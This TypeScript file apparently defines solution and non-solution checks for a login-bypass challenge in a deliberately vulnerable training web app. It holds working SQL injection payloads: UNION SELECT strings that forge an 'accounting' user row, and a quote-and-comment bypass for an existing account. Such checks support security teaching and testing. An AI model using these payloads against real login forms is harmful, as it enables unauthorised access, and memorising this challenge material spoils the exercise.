import { defineWays } from '#game/define.ts'
import { logInBy } from '#game/visitor/requests.ts'

const TIMES = "'1999-08-16 14:14:41.644 +00:00','1999-08-16 14:33:41.930 +00:00'"

export default defineWays({
  otherWays: {
    'the payload of the walkthroughs': async (visitor) =>
      logInBy(
        visitor,
        `' UNION SELECT * FROM (SELECT 15 as 'id', '' as 'username', 'acc0unt4nt@${await visitor.domain()}' as 'email', '12345' as 'password', 'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', '/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', '1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', null as 'deletedAt')--`,
      ),
    'a union without names': async (visitor) => logInBy(visitor, forged(`acc0unt4nt@${await visitor.domain()}`)),
  },
  mishaps: {
    'a registration of that address': [
      500,
      async (visitor) => visitor.register(`acc0unt4nt@${await visitor.domain()}`, 'squeeze-me'),
    ],
    'a registration in capitals': [
      500,
      async (visitor) => visitor.register(`ACC0UNT4NT@${await visitor.domain()}`, 'squeeze-me'),
    ],
    'an account with that role, made by registering': [
      201,
      (visitor) => visitor.register('bean-counter@example.org', 'squeeze-me', { role: 'accounting' }),
    ],
    'the accountant who exists': [200, async (visitor) => logInBy(visitor, `accountant@${await visitor.domain()}'--`)],
    'a made-up customer': [
      200,
      async (visitor) => logInBy(visitor, forged(`acc0unt4nt@${await visitor.domain()}`, 'customer')),
    ],
    'a made-up accountant of another name': [200, (visitor) => logInBy(visitor, forged('acc0unt4nt@example.org'))],
  },
})

function forged(email: string, role = 'accounting'): string {
  return `' UNION SELECT 15,'','${email}','12345','${role}','','1.2.3.4','/x.svg','',1,${TIMES},NULL--`
}
